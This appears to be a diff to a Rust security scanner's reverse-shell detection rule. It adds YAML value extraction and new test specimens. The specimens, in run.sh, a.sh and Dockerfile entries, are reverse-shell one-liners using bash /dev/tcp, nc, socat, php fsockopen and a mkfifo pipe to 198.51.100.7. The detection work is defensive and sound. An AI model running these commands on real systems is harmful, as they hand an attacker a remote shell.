@@ -21,6 +21,14 @@ pub(super) static REVERSE_SHELL: Rule = Rule {
         &[("run.sh", "bash -i >& /dev/{}tcp/198.51.100.7/4444 0>&1")],
         &[("run.sh", "nc{} -e /bin/sh 198.51.100.7 4444")],
         &[(
+            "a.sh",
+            "socat TCP:198.51.100.7:443 EXEC:{}'bash -li',pty,stderr",
+        )],
+        &[(
+            "a.sh",
+            "php -r '$s={}fsockopen(\"198.51.100.7\",443);exec(\"/bin/sh -i <&3 >&3\");'",
+        )],
+        &[(
             "Dockerfile",
             "RUN rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | {}nc 198.51.100.7 4444 >/tmp/f",
         )],
@@ -184,7 +192,9 @@ pub(super) fn at(
     if is_comment(file, &line) {
         return;
     }
-    let Some(danger) = judge(&line) else { return };
+    let yaml = file.language == Language::Yaml;
+    let line = if yaml { scalar(&line) } else { &line };
+    let Some(danger) = judge(line) else { return };
     let runs = is_run(file) && !file.is_specimen();
     let Some((rule, what)) = rule_of(danger, runs) else {
         return;
@@ -200,6 +210,18 @@ pub(super) fn at(
         message: format!("{what}: {}", escape(line.trim())),
         hidden: None,
     });
+}
+
+/// A value of YAML without its key, list mark and quotes.
+fn scalar(line: &str) -> &str {
+    let line = line.trim().trim_start_matches("- ").trim_start();
+    let value = line.split_once(": ").filter(|(key, _)| {
+        key.bytes()
+            .all(|byte| byte.is_ascii_alphanumeric() || b"_-".contains(&byte))
+    });
+    let value = value.map_or(line, |(_, value)| value.trim());
+    let inside = |quote| value.strip_prefix(quote)?.strip_suffix(quote);
+    inside('"').or_else(|| inside('\'')).unwrap_or(value)
 }
 
 /// What running a command of that kind is called.
